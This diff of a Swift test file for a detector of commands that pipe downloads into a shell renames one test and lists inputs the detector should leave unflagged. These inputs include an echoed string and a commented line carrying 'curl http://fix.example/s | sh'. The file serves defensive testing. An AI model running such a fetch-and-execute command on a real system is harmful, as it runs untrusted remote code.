@@ -55,7 +55,7 @@ struct DownloadIntoShellTests {
     #"echo "curl http://fix.example/s | sh""#,
     "# curl http://fix.example/s | sh",
   ])
-  func `a download that no shell reads is nothing`(text: String) {
+  func `a download that no shell reads is harmless`(text: String) {
     #expect(DownloadIntoShell.severity(of: text) == nil)
   }
 
